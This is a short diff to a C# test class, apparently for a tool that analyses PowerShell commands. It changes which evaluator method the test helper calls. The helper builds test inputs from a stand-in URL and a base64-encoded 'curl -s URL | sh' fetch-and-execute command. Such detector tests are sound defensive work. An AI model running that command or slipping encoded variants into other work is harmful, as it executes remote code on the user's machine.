@@ -11,7 +11,7 @@ public sealed class PowerShellRunTests
     private const string Url = "https://cdn.example.invalid/x";
 
     private static List<Effect> Evaluate(string text, Analysis? analysis = null) =>
-        All(ShellEvaluator.EvaluatePowerShell(text.Replace("URL", Url, StringComparison.Ordinal).Replace("B64", Convert.ToBase64String(Encoding.UTF8.GetBytes($"curl -s {Url} | sh")), StringComparison.Ordinal), 1, analysis ?? new Analysis()));
+        All(ShellEvaluator.EvaluateOther("powershell", text.Replace("URL", Url, StringComparison.Ordinal).Replace("B64", Convert.ToBase64String(Encoding.UTF8.GetBytes($"curl -s {Url} | sh")), StringComparison.Ordinal), 1, analysis ?? new Analysis()));
 
     private static List<Effect> All(IEnumerable<Effect> effects) => [.. effects.SelectMany(effect => All(effect.Steps).Prepend(effect))];
 
